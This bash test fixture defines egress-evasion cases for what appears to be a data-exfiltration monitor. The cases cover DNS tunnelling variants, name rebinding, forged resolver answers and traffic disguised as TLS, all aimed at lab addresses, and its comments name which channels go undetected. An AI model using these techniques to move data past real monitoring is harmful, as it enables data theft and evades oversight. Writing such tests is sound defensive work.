# shellcheck shell=bash
# shellcheck disable=SC2004,SC2034  # arrays of evasion.sh, by words
# SPDX-License-Identifier: Apache-2.0
#
# Getting it out by what resolvers are asked for, by names that an agreement has, and by what looks like TLS where an agreement
# wants it: somebody who may read a record sends it himself. Sourced by tests/evasion/evasion.sh, which has the agreements in
# egress.sh.

ASKING='UDP, DNS and other datagrams' NAMED='an agreed peer as a pretext' SECURED='a connection that is to be TLS'
COUNTED='missed: with tracing nobody counts what goes to a resolver'
TRACED[$SECURED]=$CONNECTS

# asked WAY RESOLVER: questions to it.
asked() { "$SLIP" "$1" "$R" "$2" 53 10.9.0.3 "$UDP_PORT"; }

# named WAY NAME RESOLVER [USER]: to where the name leads, by who asks before he reads; the resolvers lead all names to 10.9.0.2.
named() {
	"$CAT" "$R" | "$TREE/tests/guest/names.py" "$1" /dev/stdin "$2" "$3" "$FAR_PORT" "${4:-0}"
}

# secured WAY PORT: by a library of TLS, to servers of 1.1, 1.2 and 1.3 at 4431 to 4433, and of STARTTLS at 2525.
secured() {
	"$CAT" "$R" | timeout 10 "$TREE/tests/guest/tls.py" "$1" /dev/stdin 10.9.0.2 "$2"
}

evade dns-tcp egress "$ASKING" 'DNS by TCP, to a resolver that is not listed'
attack_dns-tcp() { sent tcp 10.9.0.2 53; }

evade dns-tls egress "$ASKING" 'to port 853 of one, by UDP' who=user
attack_dns-tls() { sent udp 10.9.0.2 853; }

evade dns-lookup egress "$ASKING" 'the C library looks up a name that has it'
attack_dns-lookup() {
	printf %s "${MARK:0:24}" | od -An -v -tx1 | tr -d ' \n' >spoor
	asked lookup 10.9.0.2
}

evade dns-volume egress "$ASKING" 'to a listed resolver, when as much was said as may be' entry='reason=dns_volume' \
	tracing="$COUNTED"
attack_dns-volume() { asked dns-volume 10.9.0.3; }

evade dns-children egress "$ASKING" 'the same by one child for each question' entry='reason=dns_volume' \
	tracing="$COUNTED"
attack_dns-children() { asked dns-children 10.9.0.3; }

evade dns-stream egress "$ASKING" 'the same by TCP' entry='reason=dns_volume' \
	tracing="$COUNTED"
attack_dns-stream() { asked dns-stream 10.9.0.3; }

evade dns-many egress "$ASKING" 'the same by sendmmsg, of whose messages the kernel asks about the first' entry='reason=dns_volume' \
	tracing="$COUNTED"
attack_dns-many() { asked dns-many 10.9.0.3; }

evade name-rebound egress "$NAMED" 'a name that leads elsewhere, by its owner, than the daemon takes' tracing="$FOLLOWED"
attack_name-rebound() { named tcp outside.example.org fd09::3; }

evade name-other egress "$NAMED" 'a name that is not agreed, at the same resolver' tracing="$FOLLOWED"
attack_name-other() { named tcp other.example.org fd09::3; }

evade name-resolver egress "$NAMED" 'an agreed name, by a resolver that is not listed' tracing="$FOLLOWED"
attack_name-resolver() { named tcp lab.example.org fd09::2; }

evade name-answered egress "$NAMED" 'where another process was answered to' who=user
attack_name-answered() {
	"$TREE/tests/guest/names.py" tcp /dev/null lab.example.org fd09::3 "$FAR_PORT"
	sent tcp
}

evade name-forged egress "$NAMED" 'an answer that another process forges, as if the resolver had sent it' who=root tracing="$FOLLOWED"
attack_name-forged() { named forged lab.example.org 10.9.0.4; }

evade name-strange egress "$NAMED" 'an answer of another process than the resolver' tracing="$FOLLOWED"
attack_name-strange() { named strange lab.example.org 10.9.0.4; }

evade tls-plain egress "$SECURED" 'plain text on a connection from before' entry='reason=not_tls'
attack_tls-plain() { sent before 10.9.0.2 4432; }

evade tls-datagram egress "$SECURED" 'a datagram' entry='reason=not_tls' tracing=prevented
attack_tls-datagram() { sent udp 10.9.0.2 4432; }

evade tls-quic egress "$SECURED" 'what begins like QUIC, which the agreement does not take' entry='reason=not_tls'
attack_tls-quic() { secured quic 4432; }

evade tls-fastopen egress "$SECURED" 'TCP fast open: with the first packet' entry='reason=not_tls' tracing=prevented
attack_tls-fastopen() { sent fastopen 10.9.0.2 4432; }

evade tls-old egress "$SECURED" 'TLS 1.1, as the server has nothing later' entry='reason=tls_version'
attack_tls-old() { secured tls 4431; }

evade tls-ahead egress "$SECURED" 'plain text, and then TLS' entry='reason=not_tls'
attack_tls-ahead() { secured ahead 4432; }

evade tls-early egress "$SECURED" 'behind the ClientHello, in its packet' \
	all='unrecorded: the packet is dropped as it leaves, and counted' tracing="$FOLLOWED"
attack_tls-early() { secured early 4432; }

evade tls-chatter egress "$SECURED" 'behind a long greeting at a port of STARTTLS' entry='reason=not_tls'
attack_tls-chatter() { secured chatter 2525; }

evade tls-greeting egress "$SECURED" 'as a greeting at a port of STARTTLS' \
	all='missed: up to 1 KiB before TLS is a greeting there'
attack_tls-greeting() { sent before 10.9.0.2 2525; }

evade tls-bare egress "$SECURED" 'plain text, when TLS has begun' \
	all='missed: what follows the ServerHello is not looked at'
attack_tls-bare() { secured bare 4432; }
